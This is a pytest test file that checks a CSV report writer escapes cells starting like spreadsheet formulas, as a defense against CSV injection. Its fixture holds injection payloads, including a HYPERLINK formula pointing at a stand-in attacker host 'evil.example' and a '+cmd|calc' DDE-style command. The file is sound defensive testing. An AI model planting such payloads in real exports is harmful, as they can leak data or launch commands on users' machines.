"""The CSV report never hands a spreadsheet a formula: a cell that starts like one (a case id,
category or tool name a suite chose, an explanation quoting an agent) gets a leading ``'``, as
OWASP advises against CSV injection. Before, ``=HYPERLINK(...)`` in a case id became a live
link (a formula) when the report was opened."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from agentgauge.cli import cli
from agentgauge.report import write_csv
from agentgauge.report._files import csv_cell

SUITE = """\
name: csv-formulas
cases:
  - id: '=HYPERLINK("http://evil.example/?leak","open me")'
    category: '+cmd|calc'
    input: Say hi.
    expect: {behavior: answer, response_contains: [hello]}
  - id: plain-id
    category: '@SUM(A1:A9)'
    input: Say hi.
    expect: {behavior: answer}
"""


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_a_cell_that_starts_like_a_formula_is_quoted(text: str, shown: str) -> None:
    assert csv_cell(text) == shown


def test_the_csv_report_of_a_hostile_suite_has_no_formula_cell(tmp_path: Path) -> None:
    (tmp_path / "suite.yaml").write_text(SUITE, encoding="utf-8")
    script = tmp_path / "script.jsonl"
    script.write_text(
        json.dumps({"text": "no greeting"}) + "\n" + json.dumps({"text": "ok"}) + "\n"
    )
    run_dir = tmp_path / "run"
    result = CliRunner().invoke(
        cli,
        ["run", str(tmp_path / "suite.yaml"), "--agent", f"mock:{script}", "-o", str(run_dir),
         "--no-cache", "--no-history"],
    )  # fmt: skip
    assert result.exit_code in (0, 1), result.output
    out = io.StringIO()
    write_csv(run_dir, out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))[1:]
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@")], cells
    by_category = {row[2]: row for row in rows}
    assert by_category["'+cmd|calc"][0] == '\'=HYPERLINK("http://evil.example/?leak","open me")'
    assert "'@SUM(A1:A9)" in by_category
    assert by_category["'@SUM(A1:A9)"][0] == "plain-id"  # ordinary text is left alone
